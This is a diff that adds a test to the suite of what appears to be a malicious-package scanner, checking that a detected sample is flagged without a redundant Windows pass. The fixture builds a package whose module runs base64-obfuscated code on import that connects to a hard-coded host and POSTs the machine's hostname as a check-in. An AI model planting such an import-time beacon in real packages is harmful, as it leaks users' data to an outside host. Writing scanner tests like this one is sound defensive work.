@@ -253,6 +253,42 @@ def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp
     assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
 
 
+def test_a_hinted_windows_pass_is_not_run_when_the_default_pass_already_sent(tmp_path: Path) -> None:
+    """The same obfuscated shape, but its payload is not gated and POSTs to a hard-coded
+    address at import: the default pass already proves it, the hint's Windows pass (a
+    re-install, startup and import) would add only time, and the report says it was
+    skipped and why."""
+    import base64
+
+    from tests.integration.test_detonate import sdist_of
+
+    r = Randomised()
+    name, host, port = r.name("sent"), r.address(), r.port()
+    inner = textwrap.dedent(f"""\
+        import socket
+        s = socket.create_connection(({host!r}, {port}), timeout=5)
+        body = socket.gethostname().encode()
+        s.sendall(b"POST /checkin HTTP/1.1\\r\\nHost: c2.invalid\\r\\nContent-Length: "
+                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
+        s.recv(100)
+        s.close()
+        """)
+    module = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
+    setup_py = f"from setuptools import setup\nsetup(name={name!r}, version='1.0', py_modules=[{name!r}])\n"
+    files = {
+        "setup.py": setup_py,
+        f"{name}.py": module,
+        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
+    }
+    code, report = run_cli(tmp_path, str(sdist_of(tmp_path, name, files)))
+    assert report is not None
+    assert not [p for p in report.phases if p.pass_name == "windows"], _rows(report)
+    note = next((n for n in report.notes if n.startswith("extra pass windows called for and not run")), "")
+    assert "static rules matched" in note and f"{host}:{port}" in note, report.notes
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    assert any(f.rule_id == "PS002" and f.pass_name == DEFAULT_PASS for f in report.findings)
+
+
 def test_stealer_using_getlogin_and_hidden_window_flags_is_caught_in_the_windows_pass(tmp_path: Path) -> None:
     """`from subprocess import CREATE_NO_WINDOW` and `C:\\Users\\{os.getlogin()}\\…`: the
     first stops it on Linux (and fires the pass), the second needs a terminal there;
